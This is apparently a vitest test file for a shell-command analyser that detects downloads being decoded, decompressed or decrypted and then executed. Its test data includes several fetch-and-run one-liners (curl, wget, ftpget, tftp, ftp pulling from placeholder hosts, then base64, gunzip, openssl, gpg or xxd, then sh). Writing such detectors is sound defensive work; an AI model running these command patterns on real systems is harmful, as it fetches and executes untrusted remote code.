// Files that are decompressed, decrypted or decoded on their way from a download to what is run.
import { describe, expect, it } from 'vitest';
import { commandsOfText } from '../../shared/commands/command.ts';
import { reshaped } from '../../shared/commands/reshaping.ts';
import { selfUpdates } from '../../shared/commands/self-update.ts';

const kinds = (text: string) => [...new Set(selfUpdates(commandsOfText(text)).map(({ what }) => what))];

describe('reshaped', () => {
  it.each([
    ['gunzip', ['-k', '/tmp/a.gz'], ['/tmp/a']],
    ['zstd', ['-d', 'a.zst', '-o', 'b'], ['b']],
    ['openssl', ['enc', '-d', '-in', 'a', '-out', 'b'], ['b']],
    ['gpg', ['--output', 'b', '-d', 'a.gpg'], ['b']],
    ['xxd', ['-r', '-p', 'a', 'b'], ['b']],
    ['xxd', ['-r', '-p', 'a'], []],
    ['cp', ['a.gz', 'b'], []],
  ])('%s %j: %j', (program, words, files) => {
    expect(reshaped({ program, arguments: words })).toEqual(files);
  });
});

describe('a download in another form', () => {
  it.each([
    'wget -qO /tmp/a http://h/a; base64 -d /tmp/a > /tmp/b; sh /tmp/b',
    'curl -s http://h/a > a.b64; base64 -d a.b64 | sh',
    'curl -o a.gz http://h/a.gz; gunzip a.gz; ./a',
    'curl -o a.enc http://h/a; openssl enc -d -aes256 -k x -in a.enc -out a.sh; sh a.sh',
    'curl -o a.gpg http://h/a; gpg -o a.sh -d a.gpg && sh a.sh',
    'curl -o a http://h/a; xxd -r -p a b; chmod 755 b',
    'ftpget 203.0.113.9 /tmp/x x && sh /tmp/x',
    'tftp -g -r x -l /tmp/x 203.0.113.9; sh /tmp/x',
    "printf 'open h\\nget x /tmp/x\\n' | ftp -n; sh /tmp/x",
  ])('%s', (text) => {
    expect(kinds(text)).toEqual(['download-run']);
  });

  it.each([
    'curl -o data.gz http://h/data.gz; gunzip data.gz; /app/run data',
    'gunzip /app/model.gz && /app/run /app/model',
    'curl -o a.pem http://h/a.pem; openssl x509 -in a.pem -out b.pem; /app/run --ca b.pem',
    'base64 -d /etc/config.b64 > /tmp/config; /app/run /tmp/config',
    'tftp -p -l log 203.0.113.9; /app/run',
    "printf 'put log\\n' | ftp -n h; sh /app/start.sh",
  ])('%s: none', (text) => {
    expect(kinds(text)).toEqual([]);
  });
});
